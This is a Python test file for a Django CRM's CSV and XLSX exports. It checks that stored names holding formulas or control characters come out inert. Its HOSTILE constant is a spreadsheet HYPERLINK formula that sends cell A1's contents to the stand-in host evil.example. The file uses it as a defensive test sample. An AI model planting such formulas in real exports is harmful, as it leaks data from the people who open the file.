"""Every CSV and XLSX download survives hostile stored text (issue 11, findings 2 and 3).

Names that look like formulas or hold control characters (stored before input was checked, or
by a path that skipped the checks) must give a file that opens, holds no formula and never a
500. The same checks run on a fixed hostile name and on hypothesis-generated text.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.factories import CompanyFactory, ContactFactory, LeadSourceFactory, make_deal
from voronka.accounts.models import User
from voronka.core.control_characters import find_control_character
from voronka.core.tabular_export import FORMULA_TRIGGERS
from voronka.crm.models import Company, Contact, LeadSource
from voronka.imports.exports import EXPORTS
from voronka.pipeline.models import Deal, Stage

ANALYTICS_PAGES = [
    "funnel",
    "transitions",
    "velocity",
    "win-probability",
    "managers",
    "managers/advice",
    "inflow",
    "channels",
    "forecast",
    "repeat",
]
EXPORT_PATHS = [
    *(f"/imports/export/{key}.{{fmt}}" for key in EXPORTS),
    "/companies/?export={fmt}",
    "/contacts/?export={fmt}",
    "/deals/?export={fmt}",
    "/plans/?export={fmt}",
    *(f"/analytics/{page}/?export={{fmt}}" for page in ANALYTICS_PAGES),
]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")\u0001\u001b'


@pytest.fixture
def stored(db, admin_user, pipeline):
    """One of each exported thing, all owned by the admin who downloads."""
    source = LeadSourceFactory(name="Source")
    company = CompanyFactory(name="Company", owner=admin_user)
    ContactFactory(first_name="Contact", company=company, owner=admin_user)
    make_deal(
        owner=admin_user, pipeline=pipeline, company=company, lead_source=source, amount=Decimal(5)
    )
    client = Client()
    client.force_login(admin_user)
    return client


def _store_everywhere(text: str) -> None:
    # .update() skips the input checks, as old data or a raw SQL fix would.
    Company.objects.update(name=text, industry=text)
    Contact.objects.update(first_name=text, position=text)
    Deal.objects.update(title=text, description=text)
    LeadSource.objects.update(name=text)
    Stage.objects.filter(order=1).update(name=text)
    User.objects.update(first_name=text)


def _cells(response, fmt: str) -> list:
    assert response.status_code == 200, response.content[:300]
    if fmt == "csv":
        body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
        return [value for row in csv.reader(io.StringIO(body), delimiter=";") for value in row]
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a formula cell"
    return [cell.value for cell in cells]


def _assert_inert(values: list) -> None:
    for value in values:
        if isinstance(value, str):
            assert (
                not value.startswith(FORMULA_TRIGGERS)
                or value.lstrip("+-").replace(",", "").replace(".", "").isdigit()
            ), f"live formula text {value!r}"
            character = find_control_character(value)
            assert character in (None, "\x7f") or ord(character) >= 0x80, (
                f"control character {character!r} in {value!r}"
            )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("path", EXPORT_PATHS)
def test_a_hostile_name_is_exported_inert(stored, path, fmt):
    _store_everywhere(HOSTILE)
    values = _cells(stored.get(path.format(fmt=fmt)), fmt)
    _assert_inert(values)


def test_the_hostile_name_is_really_in_the_deal_export(stored):
    _store_everywhere(HOSTILE)
    values = _cells(stored.get("/imports/export/deals.xlsx"), "xlsx")
    assert "'" + HOSTILE.replace("\u0001", "").replace("\u001b", "") in values


HOSTILE_TEXT = st.text(
    st.sampled_from(list("=+-@\t\r\n\x01\x08\x0b\x0c\x1b\x1f\"';,AЯ1 ")) | st.characters(),
    min_size=1,
    max_size=30,
).filter(lambda text: text.strip() and "\x00" not in text)


@settings(
    max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=HOSTILE_TEXT)
def test_any_stored_text_gives_inert_files_and_no_500(stored, text):
    _store_everywhere(text)
    for path in EXPORT_PATHS:
        for fmt in ("csv", "xlsx"):
            _assert_inert(_cells(stored.get(path.format(fmt=fmt)), fmt))
